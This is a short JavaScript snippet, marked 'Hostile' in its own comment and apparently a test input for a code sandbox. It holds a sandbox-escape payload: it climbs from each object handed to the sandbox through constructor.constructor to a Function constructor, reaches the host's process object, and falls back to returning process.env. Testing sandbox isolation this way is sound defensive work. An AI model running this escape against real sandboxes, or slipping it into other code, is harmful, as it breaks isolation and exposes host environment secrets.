// Hostile: climbs from everything it was handed to a function constructor, and asks for the host's process.
const handed = { sleep, setTimeout, log: console.log, call: servers.files.call, promise: Promise.resolve(), realm: this };
const way = (name, thing) => {
  try {
    return `${name}: ${thing.constructor.constructor("return process")()}`;
  } catch (error) {
    console.log(`${name}: ${error.name}`);
    return null;
  }
};
const out = Object.entries(handed).map(([name, thing]) => way(name, thing ?? {})).filter((found) => found !== null);
if (out.length) return out;
return Object.constructor("return process.env")();
